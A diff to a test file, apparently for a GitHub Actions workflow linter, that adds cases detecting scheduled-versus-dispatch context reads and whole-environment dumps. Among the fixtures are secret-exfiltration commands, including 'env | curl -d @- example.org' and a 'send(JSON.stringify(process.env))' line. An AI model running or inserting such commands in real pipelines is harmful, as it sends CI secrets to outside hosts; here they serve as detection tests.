@@ -6,6 +6,7 @@ import {
 } from '../../src/workflow/dispatch-obstacles.ts';
 import { serveTriggers } from '../../src/workflow/edit-triggers.ts';
 import type { TextFile } from '../../src/workflow/reached.ts';
+import { SCHEDULE_READERS } from './schedule-readers.ts';
 
 const A = '.github/workflows/a.yml';
 const B = '.github/workflows/b.yml';
@@ -124,6 +125,75 @@ describe('reads of what a dispatch changes', () => {
     expect(found(text)).toEqual(isSame ? [] : [expect.stringContaining('blocking event-read')]);
   });
 
+  const githubScript = (...lines: readonly string[]) =>
+    step('uses: actions/github-script@v8', 'with:', '  script: |', ...lines.map((line) => `    ${line}`));
+
+  it.each(SCHEDULE_READERS)('finds the schedule that `%s` reads', (script) => {
+    expect(found(githubScript(script))).toContain(`blocking event-read ${A}:11`);
+    expect(found(step('run: node a.js'), [{ path: 'a.js', text: script }])).toContain(
+      'blocking event-read a.js:1',
+    );
+  });
+
+  it.each([
+    ['context["eventName"]', 'context.eventName'],
+    ['context?.["actor"]', 'context.actor'],
+    ['const c = context; run(c.eventName);', 'context.eventName'],
+    ['const { context: c } = require("@actions/github"); run(c.actor);', 'context.actor'],
+    ['const { eventName } = context;', 'context.eventName'],
+    ['const { eventName: e, repo: { owner } } = context;', 'context.eventName'],
+    ['const { repo: { owner }, actor } = github.context;', 'context.actor'],
+    ['const { eventName,\n        repo } = context;', 'context.eventName'],
+    ['send(JSON.stringify(process.env));', 'process.env'],
+  ])('finds what `%s` reads, and shows `%s`', (script, shown) => {
+    const text = githubScript('run();', ...script.split('\n'));
+    const obstacles = findDispatchObstacles([{ path: A, text }], () => PLAIN_TERMS).get(A);
+    expect(obstacles).toMatchObject([{ code: 'event-read', line: 12 }]);
+    expect(obstacles?.[0]?.sentence).toBe(
+      `What \`${shown}\` gives here differs between a run by schedule and a dispatch.`,
+    );
+  });
+
+  it.each([
+    'const { repo: { owner } } = context;',
+    'const c = context; run(c.repo);',
+    'run({ actor: 1 })\nconst { repo } = context',
+    'const { eventName } = analytics.last();',
+    'console.log(JSON.stringify(process.env));',
+  ])('lets the script `%s` pass', (script) => {
+    expect(found(githubScript(...script.split('\n')))).toEqual([]);
+  });
+
+  it.each([
+    ['env > all.txt; ./send all.txt', true],
+    ['make && printenv | sort >> "$OUT"', true],
+    ['env | curl -d @- example.org', true],
+    ['env | ./send', true],
+    ['env | sort', false],
+    ['env | grep ^MY_ > my.txt', false],
+    ['env FOO=1 make > out.txt', false],
+    ['printenv HOME > home.txt', false],
+    ['env > /dev/null', false],
+    ['env >&2', false],
+  ])('looks at who gets the whole environment: %s', (command, isRead) => {
+    expect(found(step(`run: '${command}'`))).toEqual(isRead ? [`blocking event-read ${A}:8`] : []);
+  });
+
+  it('finds a read in what a script or a Docker action runs', () => {
+    const reads = { path: 'ci/b.sh', text: 'test "$GITHUB_EVENT_NAME" = schedule\n' };
+    const script = { path: 'ci/a.sh', text: '. "$(dirname "$0")/b.sh"\n' };
+    expect(found(step('run: bash ci/a.sh'), [script, reads])).toEqual(['blocking event-read ci/b.sh:1']);
+    const action = { path: 'ci/action.yml', text: 'runs: { using: docker, image: Dockerfile }\n' };
+    const image = { path: 'ci/Dockerfile', text: 'FROM a\nCOPY b.sh /\nENTRYPOINT ["/b.sh"]\n' };
+    expect(found(step('uses: ./ci'), [action, image, reads])).toEqual(['blocking event-read ci/b.sh:1']);
+  });
+
+  it.each(['main', 'pre', 'post'])('finds a read in the `%s` of a JavaScript action', (key) => {
+    const action = { path: 'act/action.yml', text: `runs: { using: node24, ${key}: dist/a.js }\n` };
+    const program = { path: 'act/dist/a.js', text: 'run(context.eventName);\n' };
+    expect(found(step('uses: ./act'), [action, program])).toEqual(['blocking event-read act/dist/a.js:1']);
+  });
+
   it('knows the ways in which workflows take both kinds of start for the same', () => {
     const chosen = step(
       "if: matrix.id == 'a' && (github.event_name == 'schedule' || inputs.id == 'all')",
@@ -211,10 +281,17 @@ describe('hostile files', () => {
     ['quotes without an end', `run: "\${{ ${"'x".repeat(100_001)} }}"`, []],
     ['logins without a name', `run: '${'login '.repeat(60_000)}'`, []],
     ['deep groups', `if: ${'('.repeat(50_000)}true`, []],
+    ['many aliases', `run: '${'const c = context; c.'.repeat(20_000)}'`, []],
+    ['deep patterns', `run: '${'{ payload: { context'.repeat(20_000)}'`, []],
     ['many reads', `run: '${'${{ github.actor }} '.repeat(20_000)}'`, [`blocking event-read ${A}:8`]],
     ['long printing', `run: '${'echo x '.repeat(50_000)}|'`, []],
   ])('with %s are read to their end', (_, line, expected) => {
     expect(found(step(line))).toEqual(expected);
+  });
+
+  it('with many reads in a script are read to their end', () => {
+    const text = 'use $GITHUB_ACTOR\n'.repeat(50_000);
+    expect(found(step('run: ./go.sh'), [{ path: 'go.sh', text }])).toHaveLength(20);
   });
 });
 
